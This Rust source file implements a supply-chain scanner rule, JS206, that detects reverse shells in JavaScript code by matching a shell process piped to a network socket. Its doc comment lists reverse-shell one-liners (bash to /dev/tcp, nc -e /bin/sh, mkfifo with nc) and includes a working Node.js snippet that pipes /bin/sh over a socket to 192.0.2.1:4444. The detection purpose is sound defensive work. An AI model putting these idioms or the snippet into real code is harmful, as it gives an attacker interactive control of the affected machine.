//! JS206 `reverse-shell`: a shell wired to a network socket.
//!
//! **What it detects.**
//! - a shell process (`spawn('/bin/sh')`, `cmd.exe`, `powershell`) and a
//!   socket (`net.connect`, `new net.Socket()`) joined by `.pipe()`,
//!   `stdin.write(data)` or `stdio: [socket, …]`;
//! - command lines with reverse-shell idioms passed to `exec`/`spawn`:
//!   `bash -i >& /dev/tcp/host/port`, `nc -e /bin/sh`, `mkfifo … | nc`.
//!
//! **Why it matters.** A reverse shell hands the attacker an interactive
//! session on the developer machine or CI runner; both seed articles list
//! 反弹shell among the commonest payloads. CWE-506, MITRE T1059.004.
//!
//! **Example.**
//! ```js
//! const c = new net.Socket(); c.connect(4444, '192.0.2.1', () => { const sh = spawn('/bin/sh'); c.pipe(sh.stdin); sh.stdout.pipe(c); });
//! ```
//!
//! **False positives.** Remote terminal tools (web terminals, `node-pty`
//! servers) pipe a shell into a socket by design; they are rare as
//! dependencies and worth a look anyway.

use sluice_model::{Confidence, Finding, Severity};

use super::facts::{NONE, label};
use super::js202_download_exec::command_strings;
use super::{Ctx, api, shell};

pub(super) fn check(ctx: &Ctx<'_, '_>) -> Vec<Finding> {
    let f = ctx.facts;
    let mut out = Vec::new();
    for c in &f.calls {
        let path = c.path.as_deref().unwrap_or("");
        if api::is_process(path) {
            if let Some(idiom) = command_strings(ctx, c)
                .into_iter()
                .find_map(|s| shell::classify(&s).reverse_shell)
            {
                out.push(
                    ctx.finding(
                        c.node,
                        "JS206",
                        "reverse-shell",
                        Severity::Critical,
                        Confidence::High,
                        "a reverse-shell command line is executed",
                    )
                    .evidence(format!("idiom: {idiom}")),
                );
                continue;
            }
            let own = f.label(c.node);
            // `spawn('/bin/sh', [], { stdio: [sock, sock, sock] })`
            if own & label::SHELL != 0
                && c.args.iter().skip(1).any(|&a| f.label(a) & label::NET != 0)
            {
                out.push(ctx.finding(
                    c.node,
                    "JS206",
                    "reverse-shell",
                    Severity::Critical,
                    Confidence::High,
                    "a shell is started with a network socket as its input/output",
                ));
            }
            continue;
        }
        if matches!(c.method, Some("pipe" | "write")) && c.receiver != NONE {
            let both = f.label(c.receiver) | f.arg_labels(c);
            if both & label::SHELL != 0 && both & label::NET != 0 {
                out.push(
                    ctx.finding(
                        c.node,
                        "JS206",
                        "reverse-shell",
                        Severity::Critical,
                        Confidence::High,
                        "a shell process is connected to a network socket",
                    )
                    .evidence("pipes between a shell and a socket"),
                );
            }
        }
    }
    out.truncate(3);
    out
}
